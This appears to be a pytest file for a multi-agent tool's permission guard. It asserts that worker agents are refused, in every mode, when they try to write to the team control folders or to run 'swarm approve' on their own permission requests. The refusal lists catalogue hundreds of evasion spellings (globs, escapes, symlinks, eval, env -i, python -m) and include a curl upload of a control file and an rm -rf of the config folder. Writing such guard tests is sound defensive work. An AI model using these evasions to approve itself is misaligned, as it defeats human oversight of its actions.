"""Commands that are refused in every mode, however they are spelled; and harmless ones that are not."""

from __future__ import annotations

import os
import sys

import pytest

from swarm.permissions.modes import MODES_BUILT
from swarm.permissions.pipeline import decide

CONTROL = [
    # what a shell takes for a pattern, and Python does not
    "touch ~/.claud[[:alpha:]]/teams/demo/permissions/rules.json",
    "cp rules.json ~/.claud[[:alpha:]]/teams/cpglob/permissions/",
    "touch ~/.[^b]*/teams/demo/x",
    "touch ~/.claud{{d..f}}/teams/demo/x",
    "env -C{root}/teams touch demo/x",
    "env --chdir={root} touch teams/demo/x",
    # plainly
    "cat ~/.claude/teams/demo/config.json",
    "ls {root}/teams",
    "ls {root}/tasks/demo",
    "echo '{{}}' > {root}/teams/demo/permissions/resolved/perm-1.json",
    "cp x {root}/teams/demo/permissions/rules.json",
    "cat $HOME/.claude/teams/x",
    "cat ${{HOME}}/.claude/teams/x",
    'cat "$HOME"/.claude/teams/x',
    "cat ${{HOME:-/x}}/.claude/teams/x",
    "ls $CLAUDE_CONFIG_DIR",
    "ls ${{CLAUDE_CONFIG_DIR}}/teams",
    "env CLAUDE_CONFIG_DIR=/x swarm status",
    "ls ~/.claude",
    "rm -rf ~/.claude/",
    "ls .claude/teams",
    # quotes, backslashes, escapes
    "cat ~/.cla'ude'/teams/x",
    'cat ~/.cl"au"de/te"am"s/x',
    r"cat ~/.clau\de/tea\ms/x",
    "cat ~/.claude/te\\\nams/x",
    "cat $'/\\x68ome/../{root}/teams/x'",
    r"cat ~/$'\x2eclaude'/teams/x",
    r"cat ~/$'\056claude/teams'/x",
    r"cat $(printf '\x2eclaude/teams')",
    r"echo -e '\u002eclaude/teams/x' | xargs cat",
    "cat ~/.cla$''ude/teams/x",
    'ls "$CLAUDE_"CONFIG_DIR',
    # steps
    "cat ~/.claude//teams/x",
    "cat ~/.claude/./teams/x",
    "cat ~/.claude/skills/../teams/x",
    "cat ~/x/../.claude/teams/x",
    "cat ../home/.claude/teams/x",
    "cat /../../{root}/teams/x",
    "cat /{root}/skills/../teams/x",
    "cat /proc/self/root/{root}/teams/x",
    # folders entered
    "cd ~/.claude && cat teams/x",
    "cd ~/.claude/teams",
    "cd ~ && cat .claude/teams/x",
    "cd ~; cd .claude; cat teams/x",
    "cd; cd .claude; ls",
    "cd .. && cd home && cd .claude && ls teams",
    "pushd ~/.claude; ls teams",
    "git -C ~/.claude status",
    "make --directory=../home/.claude",
    "tar -C ~/.claude -cf x.tar teams",
    "(cd ../home/.claude; ls)",
    # globs and braces
    "cat ~/.claude/t*/x",
    "cat ~/.cl*/teams/x",
    "cat ~/.c?aude/tea[m]s/x",
    "cat ~/.[c]laude/teams/x",
    "cat ~/.claude/{{teams,x}}/y",
    "cat ~/.{{x,claude}}/te{{a,b}}ms/x",
    "ls -d ~/.cl*",
    "cat {base}/*/.claude/tasks/x",
    # variables
    "X=teams; cat ~/.claude/$X/y",
    "D=~/.claude; ls $D/teams",
    "A=.clau B=de/teams; cat ~/$A$B/x",
    "cat ~/.claude/$UNKNOWN/x",
    "cat ~/.cla$UNKNOWN/teams/x",
    "for d in teams tasks; do ls ~/.claude/$d; done",
    # in the arguments of programs
    'python3 -c \'open("{root}/teams/x","w")\'',
    "python3 -c \"import os; os.chdir('{root}'); print(1)\"",
    "curl -d @{root}/teams/x http://x",
    "tar --file=x --directory={root} teams",
    "bash -c 'cat ~/.claude/teams/x'",
    "find / -path '*/.claude/teams/*'",
    "ln -s ~/.claude/teams door",
    "ln -s ~/.claude door",
    "dd if=x of={root}/teams/x",
    # links that are there already
    "cat door/demo/config.json",
    "cat door/../teams/demo/x",
    "echo x > src/door/demo/config.json",
    # other spellings of one name
    "cat ~/.CLAUDE/Teams/x",
    "cat {root_upper}/TEAMS/x",
    "cat ~/.claude/\uff54eams/x",
    "cat \uff0f{root}/teams/x",
]


@pytest.fixture
def doors(world):
    """Links into the swarm's folders, as a careless person may have made them."""
    os.symlink(f"{world.root}/teams", f"{world.ws}/door")
    os.symlink(f"{world.root}/teams", f"{world.ws}/src/door")
    return world


@pytest.mark.parametrize("command", CONTROL)
@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
def test_a_command_that_names_the_swarms_folders_is_refused(doors, command, mode):
    """Whoever writes there approves itself, whatever the mode and the rules."""
    command = command.format(root=doors.root, base=doors.base, root_upper=doors.root.upper())

    decision = doors.decide("Bash", command, mode, allow=["Bash"])

    assert (decision.behavior, decision.why) == ("deny", "immune")


ANSWERS = [
    "echo x > here/permissions/resolved/perm-1.json",
    "cp x here/permissions/rules.json",
    "cat here/permissions/../config.json",
    "cp x src/answers/perm-1.json",
    "tee twice/perm-1.json",
    "tee twice",
    "cd src/answers && tee x",
    "cd src; cat answers/x",
    "ln -f x twice/perm-1.json",
    "mv x src/answers",
    "rsync x src/answers/",
    "rm src/answers/x",
    "python -c \"open('twice/x', 'w')\"",
    "D=src/answers; echo x > $D/x",
]


@pytest.fixture
def linked(world):
    """Links to the answers of a team, and one to such a link."""
    os.makedirs(f"{world.root}/teams/demo/permissions/resolved")
    os.symlink(f"{world.root}/teams/demo", f"{world.ws}/here")
    os.symlink(f"{world.root}/teams/demo/permissions/resolved", f"{world.ws}/src/answers")
    os.symlink("src/answers", f"{world.ws}/twice")
    return world


@pytest.mark.parametrize("mode", MODES_BUILT)
@pytest.mark.parametrize("command", ANSWERS)
def test_no_command_writes_an_answer_through_a_link(linked, command, mode):
    """An answer is a file; whoever can make one needs no person."""
    decision = linked.decide("Bash", command, mode, allow=["Bash"])

    assert (decision.behavior, decision.why) == ("deny", "immune")


@pytest.mark.parametrize("mode", MODES_BUILT)
@pytest.mark.parametrize("tool", ["Write", "Edit"])
@pytest.mark.parametrize(
    "path",
    [
        "{root}/teams/demo/permissions/resolved/perm-1.json",
        "{root}/teams/demo/permissions/pending/perm-1.json",
        "{root}/teams/demo/permissions/rules.json",
        "{root}/teams/demo/config.json",
        "{root}/teams/demo/team.yaml",
        "{root}/teams/demo/.spawn/w1.json",
        "{root}/tasks/demo/1.json",
        "here/permissions/resolved/perm-1.json",
        "src/../here/permissions/rules.json",
        "src/answers/perm-1.json",
        "twice/perm-1.json",
        "twice",
    ],
)
def test_no_file_tool_writes_an_answer_or_what_one_is_judged_by(linked, path, tool, mode):
    """By whatever name, and whatever rules say."""
    decision = linked.decide(tool, path.format(root=linked.root), mode, allow=[tool, f"{tool}(//**)"])

    assert (decision.behavior, decision.why) == ("deny", "immune")


APPROVALS = [
    "sed -n '1e env -u SWARM_AGENT -u SWARM_RUN_ID swarm -q approve 1' /etc/hostname",
    "echo 'swarm -q approve 1' | sh",
    "git -c alias.x='!swarm --json -t demo deny 1' x",
    "tar -I 'swarm -q approve 1' -xf x.tar",
    """python3 -c "import os; os.execvp('swarm', ['swarm', '--json', '-t', 'demo', 'approve', '1'])" """,
    "swarm approve perm-1",
    "swarm deny perm-1",
    "swarm -t demo approve perm-1",
    "swarm --team demo approve perm-1",
    "swarm --team=demo deny perm-1 --note x",
    "swarm -v -q approve perm-1 --always",
    "  swarm   approve x",
    "swarm\tapprove x",
    "'swarm' approve x",
    'swarm "approve" x',
    "sw''arm app''rove x",
    r"\swarm \approve x",
    r"swarm app\rove x",
    r"$'\x73warm' approve x",
    r"swarm $'\x61pprove' x",
    "swa\\\nrm approve x",
    "/usr/bin/swarm approve x",
    ".venv/bin/swarm approve x",
    "~/.local/bin/swarm approve x",
    "SWARM approve x",
    "SWARM_AGENT= swarm approve x",
    "env -u SWARM_AGENT swarm approve x",
    "env -i /usr/bin/swarm approve x",
    "unset SWARM_AGENT; swarm approve x",
    "ls && swarm approve x",
    "ls | swarm approve x",
    "ls\nswarm approve x",
    "(swarm approve x)",
    "echo $(swarm approve x)",
    "echo `swarm approve x`",
    "command swarm approve x",
    "exec swarm approve x",
    "nohup swarm approve x &",
    "timeout 5 swarm approve x",
    "sudo -u me swarm approve x",
    "bash -c 'swarm approve x'",
    'sh -c "sh -c \\"swarm approve x\\""',
    "eval swarm approve x",
    "xargs -n1 swarm approve < ids",
    "echo approve x | xargs swarm",
    "find . -exec swarm approve {} ;",
    "swarm {approve,x}",
    "swarm appro?e x",
    "swarm [a]pprove x",
    "V=approve; swarm $V x",
    "S=swarm; $S approve x",
    "swarm $V x",
    "swarm appr$V x",
    "swarm $(echo approve) x",
    "swarm `echo approve` x",
    "python -m swarm.cli approve x",
    "python3 -m swarm approve x",
    "python3 -P -mswarm.cli.entry approve x",
    "/usr/bin/python3.11 -m swarm.cli deny x",
    "python -m swarm.cli status; python -m swarm.cli approve x",
    "uv run swarm approve x",
    "pipx run swarm approve x",
    "python -c \"import os; os.system('swarm approve x')\"",
    "python -c \"import subprocess as s; s.run(['swarm', '-t', 'demo', 'approve', 'x'])\"",
    "python -c 'from swarm.storage.permissions import PermissionStore; PermissionStore(x).resolve(y)'",
    "python - <<EOF\nimport swarm.cli.entry\nswarm.cli.entry.main(['approve', 'x'])\nEOF",
    "node -e \"require('child_process').execSync('swarm approve x')\"",
    "if true; then swarm approve x; fi",
    # with the small number of a question
    "swarm approve 3",
    "swarm approve 3 4",
    "swarm approve --always 3",
    "swarm -t x deny 3",
    "swarm -tx deny 3",
    "swarm -t x -q deny 3",
    "swarm -t x --json deny 3",
    "yes | swarm approve 3",
    "seq 9 | xargs -n1 swarm approve",
    "for i in 1 2 3; do swarm approve $i; done",
    "swarm approve<<<3",
    "swarm 2>&1 approve 3",
    "swarm >/dev/null approve 3",
    "swarm -t x &>> log deny 3",
    # as a module or a file
    "python -m swarm approve 3",
    "python -m swarm -t x deny 3 --note no",
    "python -I -X utf8 -m 'swarm' approve 3",
    "python -msw''arm approve 3",
    "python -m swarm.__main__ approve 3",
    "python -m swarm 2>log approve 3",
    "python /x/swarm approve 3",
    "python swarm/__main__.py approve 3",
    "python /x/swarm/cli/entry.py -t x approve 3",
    'python -c \'import runpy; runpy.run_module("swarm", run_name="__main__")\' approve 3',
    "python -c \"import sys, subprocess as s; s.run([sys.executable, '-m', 'swarm', 'approve', '3'])\"",
    # with another environment, by another name
    "env -i swarm approve 3",
    "env - swarm approve 3",
    "env -i HOME=/x /usr/bin/python3 -m swarm approve 3",
    "SWARM_AGENT= SWARM_RUN_ID= swarm approve 3",
    "exec -c swarm approve 3",
    "alias s=swarm; s approve 3",
    "alias t=ls s='/x/bin/swarm'; s approve 3",
    's() { swarm "$@"; }; s approve 3',
    "hash -p /x/swarm z; z approve 3",
    # where a folder of that name stands beside it
    "cd swarm; ./swarm $V x",
    "cd /x/swarm && bin/swarm appr$V x",
    "/x/swarm $V x",
    "$BIN/swarm $V x",
    "$(dirname $0)/swarm $V x",
    "B=/x/bin; $B/swarm $V x",
    "S=/x/swarm; $S $V x",
    "S=/x/swarm sh -c '$S $V x'",
    "if true; then A=b /x/swarm $V x; fi",
    "$(command) /x/swarm $V x",
    "nohup $(true) swarm $V x",
    "`true` swarm $V x",
    "S=/x/swarm; env $S $V x",
    "env swarm $V x",
    "env A=b /x/swarm $V x",
    "env -C /x/swarm swarm $V x",
    "env -u cd swarm $V x",
    "env -S 'swarm '$V",
    "sh -c 'cd /x/swarm && ./swarm $V x'",
    "sh -c 'exec /x/swarm $V x'",
    "sh -c 'swarm $V x'",
    "sh -ec 'if ! swarm $V x; then true; fi'",
    "bash -o posix -c 'swarm $V x'",
    "bash +x -c 'swarm $V x'",
    "sh -c +x 'swarm $V x'",
    "sh -c -- 'swarm $V x'",
    "sh swarm $V x",
    "flock cat swarm $V x",
    "chroot ls swarm $V x",
    "sudo -u cd swarm $V x",
    "timeout 5 swarm $V x",
    "nice -n 5 swarm $V x",
    "exec -a cd swarm $V x",
    "c=$(command -v swarm); $c $V x",
    "command -v swarm | while read c; do $c $V x; done",
    "S=sh; $S -c 'swarm $V x'",
    "C='cd '; sh -c \"${C}x; swarm $V x\"",
    # where what a variable holds ends the command before it
    "A=';'; sh -c \"cd $A swarm $V x\"",
    'A=\\;; sh -c "cd $A swarm $V x"',
    "A=; A+=';'; sh -c \"cd $A swarm $V x\"",
    'A=; read A < semicolon; sh -c "cd $A swarm $V x"',
    'read HOME < semicolon; sh -c "cd $HOME swarm $V x"',
    "sh -c 'cd /x swarm'; A=/x; printf -v A ';'; sh -c \"cd $A swarm $V x\"",
    "A=';'; eval cd $A swarm $V x",
    "eval cd ';' swarm $V x",
    # where the program's name is yet to be worked out
    "/x/bin/sw?rm approve 3",
    "sw* approve 3",
    ".venv/bin/[s]warm -t x deny 3",
    "ls; sw*m approve 3",
    "s$(echo warm) approve 3",
    "s`echo warm` approve 3",
    "swa${X}rm approve 3",
    "s$@warm approve 3",
    "$X approve 3",
    "${X[0]} --team x deny 3",
    "if true; then $X approve 3; fi",
    "$(which -a swarm|head -1) approve 3",
    "ls && `which -a swarm | head -1` -t x approve 3",
    "env $X approve 3",
    "python -m $M approve 3",
    "python3 -I -m sw$@arm -t x deny 3",
    # in the value of an option, or with an escaped blank
    "env -S'swarm approve 3'",
    "env --split-string='swarm approve 3'",
    "flock f -c'swarm approve 3'",
    "GIT_PAGER='swarm approve 3' git log",
    "printf 'swarm\\tapprove 3' | sh",
    "echo -e 'swarm\\vapprove 3' | sh",
    # with the functions that answer
    "python -c \"import swarm.leader.questions as q; q.answer(t, '3', x)\"",
    "python -c \"from swarm.leader import questions; questions.answer(t, '3', x)\"",
    "python -c 'from swarm.storage.questions import settle; settle(t, r, x)'",
]


@pytest.mark.parametrize("mode", ["plan", "dontAsk", "default", "bypassPermissions"])
@pytest.mark.parametrize("command", APPROVALS)
def test_a_worker_does_not_answer_requests(world, command, mode):
    """Approving is the person's part; a worker that can do it has no permissions at all."""
    decision = world.bash(command, mode, allow=["Bash"])

    assert (decision.behavior, decision.why) == ("deny", "immune")


HARMLESS = [
    "ls",
    "ls -la src",
    "git status",
    "git commit -m 'approve the plan'",
    "git -C src status",
    "cd src && ls",
    "cd src; ls teams",
    "cd .. && ls",
    "cat tasks/README.md",
    "ls teams tasks",
    "echo $PATH $HOME",
    "ls ~",
    "ls ~/*",
    "ls *",
    "ls */*",
    "cat $FILE",
    "cat $DIR/$FILE",
    "cat src/.claude-notes",
    "cat docs/claude/teams.md",
    "cat .claude/teams.md || true",
    "cat ~/.claude/skills/x/SKILL.md",
    "swarm status",
    "swarm status > out.txt 2>&1",
    "swarm permissions",
    "swarm permissions 3",
    "swarm task list --json",
    "python swarm/cli/main.py status",
    "alias s=swarm; s status",
    "swarm -t demo task complete 7",
    "swarm send team-lead 'please approve'",
    'swarm send team-lead "$MESSAGE"',
    "grep -rn deny swarm/permissions",
    "python -m pytest tests -k deny",
    "python -c 'print(1)'",
    "echo swarm; echo approve",
    "rm -rf build dist",
    "rm -rf src/*.pyc",
    "rm -r /var/tmp/scratch-of-mine",
    "rm notes.txt",
    "find . -name '*.pyc' -delete",
    "find src -exec rm {} +",
    "cat .git/config",
    "sed -n 1p .git/config",
    "cp .git/config /var/tmp/x",
    "git add .gitignore",
    "echo x > .gitignore",
    "pytest 2>&1 | tail -5 > out.txt",
    "make CFLAGS='-O2 -g'",
    "printf '%s\\n' a b c",
    "x=1; y=$((x + 1)); echo $y",
    "python - <<'EOF'\nprint('approve')\nEOF",
    # where a folder has the name of the program
    "sh -c 'cd /x/swarm && echo \"$0\"' x",
    "sh -c 'cd /x/swarm && ./run \"$0\"; exit $?' x",
    "setsid sh -c 'ls /x/swarm $FILES' x &",
    "bash -lc 'cat /x/swarm \"$1\"' x y",
    "sh -c 'sh -c \"cd /x/swarm; echo $x\"'",
    'while :; do cd /x/swarm && python -m swarm send team-lead "$0 of one"; done',
    "for d in a b; do ls /x/swarm $d; done",
    "if test -d /x/swarm; then echo $x; fi",
    "if [ -d /x/swarm ]; then echo $x; fi",
    "{ cd /x/swarm; echo $x; }",
    "env A=b ls /x/swarm $x",
    'nohup make -C /x/swarm "$T" &',
    'nice -n 19 make -C /x/swarm "$T"',
    "timeout 60 make -C /x/swarm $T",
    "cd $DIR/swarm && ls",
    "ls $DIR/swarm",
    "sh -c 'cd $DIR/swarm && ls'",
    'sh -c "cd $HOME/swarm && echo \\$0" x',
    'R=/x/swarm; sh -c "cd $R && echo $x"',
    'R="$HOME/swarm"; sh -c "cd $R && echo $x"',
    # where a program of another name is yet to be worked out
    "$CC $CFLAGS x.c",
    "$(which python3) -m pytest",
    "python -m $M",
    "./run* deny-list.txt",
    'echo "$(date) approve" >> notes.txt',
    "echo $X deny",
    "grep $X approve",
    "ls | $PAGER",
    "*/run.sh approve",
]


@pytest.mark.parametrize("command", HARMLESS)
def test_ordinary_commands_are_not_refused(world, command):
    """A guard that cries wolf gets switched off."""
    assert world.bash(command).reason == "Mode bypassPermissions allows it."


def test_a_nul_is_refused(world):
    """What is checked must be what is run; a program sees the text up to there."""
    assert world.bash("ls\0; cat x").why == "immune"


def test_an_agent_inside_the_swarms_folders_runs_nothing(world):
    """From there every relative name means one of the swarm's files."""
    assert world.bash("cat x", cwd=f"{world.root}/teams/demo").why == "immune"


HIDDEN = [
    "cat ~+/../conf/teams/x",
    "cd src; cat ~-/../conf/teams/x",
    "cat /proc/self/cwd/../conf/teams/x",
    "cat /proc/thread-self/cwd/../conf/teams/x",
    "cat /proc/$$/cwd/../conf/teams/x",
    "cat /proc/1234567/cwd/../conf/teams/x",
    "cat ${PWD%/*}/conf/teams/x",
    "cat ${PWD%ws}conf/teams/x",
    "cat $(dirname $PWD)/conf/teams/x",
    "cat `dirname $PWD`/conf/teams/x",
    "cat $OLDPWD/../conf/tasks/x",
    "cat $X/conf/teams/demo/config.json",
    "cat ${X:-..}/conf//teams/demo",
    'cat "${X}"/con"f"/teams',
    "D=$(cd ..; pwd); tee $D/conf/./teams/x",
]
"""Ways to a folder above by what only a shell knows, where the configuration folder is `conf`."""


def test_the_configured_folder_counts_not_only_the_usual_one(world, tmp_path):
    """`CLAUDE_CONFIG_DIR` may point anywhere."""
    policy = world.policy(
        "bypassPermissions", control_roots=(f"{tmp_path}/conf/teams", f"{tmp_path}/conf/tasks")
    )
    for command in ("ls {}/conf/teams", "ls ../conf/tasks/x", "cd ../conf; ls teams", "ls {}/c*f"):
        assert decide(policy, world.call("Bash", command.format(tmp_path))).why == "immune"
    for command in HIDDEN:
        assert decide(policy, world.call("Bash", command)).why == "immune", command
    for command in (
        *("ls ../confused/teams", "ls conf/teams", f"ls {tmp_path}/configuration", "cat src/conf/teams/x"),
        *("cat $X/confused/teams", "cat ~+/conf/teams/x", "cat /proc/self/cwd/conf/teams/x", "ls $X/teams"),
        *("cat ${PWD}/conf/teams/x", "cat $X/conf/teamsters", "echo ${X}conf; ls teams"),
    ):
        assert decide(policy, world.call("Bash", command)).behavior == "allow"


def test_home_reached_through_a_link_is_home(world, tmp_path):
    """The folder of the swarm is the same by all its names."""
    os.symlink(world.home, tmp_path / "also-home")
    for policy in (
        world.policy("bypassPermissions"),
        world.policy(
            "bypassPermissions",
            home=f"{tmp_path}/also-home",
            control_roots=(f"{tmp_path}/also-home/.claude/teams", f"{tmp_path}/also-home/.claude/tasks"),
        ),
    ):
        for home in ("home", "also-home"):
            assert decide(policy, world.call("Bash", f"ls {tmp_path}/{home}/.claude/tasks")).why == "immune"


PIECES = [
    *(
        "a ",
        "find x ",
        "./a/b ",
        "{a,b}",
        "swarm a$x ",
        "swarm\n",
        "rm -rf x y\n",
        "cd a\n",
        "a=$a$a;",
        "> x ",
    ),
    *("'", '"', "\\", "$(", "`", "{", "~/", "*", "/", "..//", "swarm t ", "\\x41", "-m swarm ", "A=a;", "${"),
    *("import swarm ", "> x ", "$(a) ", "env $X approve ", "sw* deny "),
]


@pytest.mark.parametrize("command", ["x=y " * 400 + "ls", "echo " + "$a" * 4_100])
def test_more_variables_than_can_be_judged_at_once_are_refused(world, command):
    assert world.bash(command, "bypassPermissions").why == "immune"


@pytest.mark.parametrize("text", ["A" * 200_000, "a = b\n" * 10_000, "x=1\ny\n" * 20_000])
def test_a_long_text_is_no_trouble(world, text):
    assert world.bash(f"cat > made.txt <<'EOF'\n{text}\nEOF", "bypassPermissions").behavior == "allow"


STEPS_MAX = 2_000_000
"""Calls of functions in one judgement, of Python's and of built-in ones; they are what takes the time."""


@pytest.mark.parametrize("piece", PIECES)
def test_no_command_takes_long_to_judge(world, piece):
    """A model can write anything; judging it must not stop the teammates of the same process.

    Steps are counted, because the time that they take says as much about the machine.
    """
    command = piece * (12_000 // len(piece))
    steps = 0

    def count(_frame, event, _argument):
        nonlocal steps
        steps += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        world.bash(command, deny=["Bash(rm *a*b*c)"], ask=["Bash(*a*b*c*d)"])
    finally:
        sys.setprofile(before)

    assert steps < STEPS_MAX
